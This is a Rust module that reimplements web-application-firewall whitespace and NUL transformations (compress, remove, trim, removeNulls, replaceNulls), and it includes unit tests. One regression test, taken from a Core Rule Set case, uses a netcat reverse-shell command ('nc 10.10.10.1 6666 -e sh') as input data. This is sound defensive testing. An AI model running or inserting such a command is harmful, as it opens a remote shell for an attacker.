//! Whitespace and NUL handling: `compressWhitespace`, `removeWhitespace`,
//! `trim`, `trimLeft`, `trimRight`, `removeNulls`, `replaceNulls`.
//!
//! "Whitespace" is C's `isspace` in the C locale (`\t \n \v \f \r` and
//! space); only `removeWhitespace` adds to it (see [`remove`]).

use super::bytes::{has_pair, is_c_space};
use memchr::memchr;

/// `compressWhitespace` changes a value only if it has a whitespace byte
/// other than a lone space.
#[inline]
pub(super) fn compress_unchanged(input: &[u8]) -> bool {
    !input.iter().any(|&b| (0x09..=0x0d).contains(&b)) && !has_pair(input, b' ', b' ')
}

/// `compressWhitespace`: every run of whitespace becomes one space. NBSP
/// (`0xa0`) is not whitespace here (v2 counted it; v3 3.0.9 does not).
pub(super) fn compress(input: &[u8], out: &mut Vec<u8>) {
    out.reserve(input.len());
    let mut in_space = false;
    for &b in input {
        if is_c_space(b) {
            if !in_space {
                out.push(b' ');
                in_space = true;
            }
        } else {
            out.push(b);
            in_space = false;
        }
    }
}

/// The bytes `removeWhitespace` drops.
#[inline]
fn removable(b: u8) -> bool {
    is_c_space(b) || b == 0xa0 || b == 0xc2
}

#[inline]
pub(super) fn remove_unchanged(input: &[u8]) -> bool {
    !input.iter().any(|&b| removable(b))
}

/// `removeWhitespace`: drops whitespace, and also every `0xa0` **and every
/// `0xc2`** byte: v3 means to remove the non-breaking space in Latin-1
/// (`A0`) and in UTF-8 (`C2 A0`), but tests each byte on its own, so any
/// `C2` goes (`é` is `C3 A9` and survives, `¢` is `C2 A2` and loses its
/// first byte).
pub(super) fn remove(input: &[u8], out: &mut Vec<u8>) {
    out.reserve(input.len());
    out.extend(input.iter().copied().filter(|&b| !removable(b)));
}

/// The range `trim` keeps.
#[inline]
fn trimmed(input: &[u8], left: bool, right: bool) -> &[u8] {
    let mut s = input;
    if right {
        while let [rest @ .., last] = s {
            if !is_c_space(*last) {
                break;
            }
            s = rest;
        }
    }
    if left {
        while let [first, rest @ ..] = s {
            if !is_c_space(*first) {
                break;
            }
            s = rest;
        }
    }
    s
}

#[inline]
pub(super) fn trim_unchanged(input: &[u8], left: bool, right: bool) -> bool {
    let starts = left && input.first().is_some_and(|&b| is_c_space(b));
    let ends = right && input.last().is_some_and(|&b| is_c_space(b));
    !starts && !ends
}

/// `trim` (`left` and `right`), `trimLeft`, `trimRight`: remove leading
/// and/or trailing whitespace. NBSP and NUL are not whitespace.
pub(super) fn trim(input: &[u8], out: &mut Vec<u8>, left: bool, right: bool) {
    out.extend_from_slice(trimmed(input, left, right));
}

#[inline]
pub(super) fn nulls_unchanged(input: &[u8]) -> bool {
    memchr(0, input).is_none()
}

/// `removeNulls`: drops every NUL byte.
pub(super) fn remove_nulls(input: &[u8], out: &mut Vec<u8>) {
    out.reserve(input.len());
    let mut rest = input;
    while let Some(z) = memchr(0, rest) {
        out.extend_from_slice(&rest[..z]);
        rest = &rest[z + 1..];
    }
    out.extend_from_slice(rest);
}

/// `replaceNulls`: every NUL byte becomes a space.
pub(super) fn replace_nulls(input: &[u8], out: &mut Vec<u8>) {
    out.extend(input.iter().map(|&b| if b == 0 { b' ' } else { b }));
}

#[cfg(test)]
mod tests {
    use super::super::tests::check;
    use super::super::Transform as T;

    #[test]
    fn compress_whitespace() {
        check(
            T::CompressWhitespace,
            &[
                (b"", b""),
                (b"a b c", b"a b c"),
                (b" a ", b" a "),
                (b"a  b", b"a b"),
                (b"a\tb", b"a b"),
                (b"a\r\nb", b"a b"),
                (b"a \t\n\x0b\x0c\r b", b"a b"),
                (b"   ", b" "),
                (b"\n", b" "),
                (b" \n", b" "),
                (b"a\xa0b", b"a\xa0b"),
                (b"a\xa0 \xa0b", b"a\xa0 \xa0b"),
                (b"a\0\0b", b"a\0\0b"),
                (b"a\x1cb\x85c", b"a\x1cb\x85c"),
            ],
        );
    }

    /// CRS regression tests of rules that apply `compressWhitespace`.
    #[test]
    fn compress_whitespace_crs() {
        check(
            T::CompressWhitespace,
            &[
                // 932210-1, after escapeSeqDecode.
                (
                    b";\n.shell nc 10.10.10.1 6666 -e sh\n",
                    b"; .shell nc 10.10.10.1 6666 -e sh ",
                ),
            ],
        );
    }

    #[test]
    fn remove_whitespace() {
        check(
            T::RemoveWhitespace,
            &[
                (b"", b""),
                (b"abc", b"abc"),
                (b" a b c ", b"abc"),
                (b"a\t\n\x0b\x0c\r b", b"ab"),
                (b"a\xa0b", b"ab"),
                (b"a\xc2\xa0b", b"ab"),
                (b"\xc2\xa2", b"\xa2"),
                (b"\xc3\xa9", b"\xc3\xa9"),
                (b"a\0b", b"a\0b"),
                (b"   ", b""),
            ],
        );
    }

    #[test]
    fn trim() {
        check(
            T::Trim,
            &[
                (b"", b""),
                (b"abc", b"abc"),
                (b"  abc  ", b"abc"),
                (b"\t\n\x0b\x0c\r abc \r\n", b"abc"),
                (b" a b ", b"a b"),
                (b"   ", b""),
                (b"\xa0abc\xa0", b"\xa0abc\xa0"),
                (b"\0abc\0", b"\0abc\0"),
                (b" \0 ", b"\0"),
            ],
        );
    }

    #[test]
    fn trim_left() {
        check(
            T::TrimLeft,
            &[
                (b"", b""),
                (b"abc", b"abc"),
                (b"  abc  ", b"abc  "),
                (b"\t\nabc", b"abc"),
                (b"   ", b""),
                (b"\xa0abc", b"\xa0abc"),
            ],
        );
    }

    #[test]
    fn trim_right() {
        check(
            T::TrimRight,
            &[
                (b"", b""),
                (b"abc", b"abc"),
                (b"  abc  ", b"  abc"),
                (b"abc\r\n", b"abc"),
                (b"   ", b""),
                (b"abc\xa0", b"abc\xa0"),
            ],
        );
    }

    #[test]
    fn remove_nulls() {
        check(
            T::RemoveNulls,
            &[
                (b"", b""),
                (b"abc", b"abc"),
                (b"\0", b""),
                (b"a\0b\0\0c\0", b"abc"),
                (b"\0\0\0", b""),
                (b"%00", b"%00"),
            ],
        );
    }

    #[test]
    fn replace_nulls() {
        check(
            T::ReplaceNulls,
            &[
                (b"", b""),
                (b"abc", b"abc"),
                (b"\0", b" "),
                (b"a\0b\0\0c\0", b"a b  c "),
            ],
        );
    }
}
